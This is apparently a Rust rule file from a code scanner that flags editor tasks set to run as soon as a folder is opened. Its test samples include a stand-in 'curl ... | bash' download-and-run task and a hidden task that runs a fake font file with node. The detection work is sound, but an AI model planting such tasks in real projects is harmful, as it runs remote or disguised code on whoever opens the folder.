//! `execution-editor-autorun`: an editor or a container runs a command as soon
//! as a folder is opened.

use crate::finding::{Confidence, Severity};
use crate::scan::command;
use crate::scan::language::Language;
use crate::scan::rule::{Check, Reporter, Rule, Sample, TextFile};
use crate::text::Span;

/// The rule.
pub static RULE: Rule = Rule {
    id: "execution-editor-autorun",
    title: "Has an editor run a command as soon as the folder is opened",
    severity: Severity::Warning,
    confidence: Confidence::Medium,
    why: "Who opens a folder to look at it wants to read, not to run.",
    fix: "Leave the task to be started by the person.",
    references: &["CWE-829", "ATT&CK T1204", "ATT&CK T1547"],
    hits: &[
        Sample::File(
            ".vscode/tasks.json",
            "{\"tasks\":[{\"type\":\"shell\",\"command\":\"curl -s https://t.example.com/i | bash\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n",
        ),
        Sample::File(
            "new.sh",
            "cat > .vscode/tasks.json <<'J'\n{\"tasks\":[{\"command\":\"curl -s https://t.example.com/i | bash\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\nJ\n",
        ),
        Sample::File(
            "template/.vscode/tasks.json",
            "{\"tasks\":[{\"command\":\"node .vscode/font.woff2\",\"presentation\":{\"reveal\":\"never\",\"echo\":false},\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n",
        ),
    ],
    misses: &[
        Sample::File(
            ".vscode/tasks.json",
            "{\"tasks\":[{\"label\":\"test\",\"command\":\"npm test\"}]}\n",
        ),
        Sample::File(
            "docs/tasks.md",
            "Set `runOn` to `folderOpen` to start a watcher.\n",
        ),
        Sample::File("a.js", "const on = 'folderOpen';\n"),
    ],
    check: Check::Text {
        anchors: &["folderopen"],
        check,
    },
};

/// How far around its word the rest of a task may stand, in bytes.
const REACH: usize = 1500;

fn check(file: &TextFile<'_>, reporter: &mut Reporter<'_>) {
    if file.language == Language::Markdown && !file.is_skill_md() {
        return;
    }
    let text = file.text;
    let Some(at) = text.find("folderOpen") else {
        return;
    };
    let mut from = at.saturating_sub(REACH);
    while !text.is_char_boundary(from) {
        from += 1;
    }
    let mut to = (at + REACH).min(text.len());
    while !text.is_char_boundary(to) {
        to -= 1;
    }
    let around = &text[from..to];
    if !around.contains("runOn") || !around.contains("command") {
        return;
    }
    let span = Span::new(at, at + "folderOpen".len());
    let hides = around.contains("\"never\"") || around.contains("\"silent\"");
    let raised = reporter.raise(span);
    // What only looks like a picture or a font is run as code.
    let disguised = ["node ", "python3 ", "python ", "bash ", "sh "]
        .iter()
        .any(|program| {
            around.split(program).skip(1).any(|rest| {
                let file = rest
                    .split([' ', '"', '\'', '&', '|', ';'])
                    .next()
                    .unwrap_or_default();
                [
                    ".woff", ".woff2", ".ttf", ".png", ".jpg", ".svg", ".ico", ".dat",
                ]
                .iter()
                .any(|ending| file.ends_with(ending))
            })
        });
    if command::is_loaded_text(around) || disguised {
        raised
            .severity(Severity::Blocker)
            .message("Has an editor run what it downloads as soon as the folder is opened");
    } else if hides {
        raised
            .severity(Severity::Error)
            .message("Has an editor run a command unseen as soon as the folder is opened");
    }
}
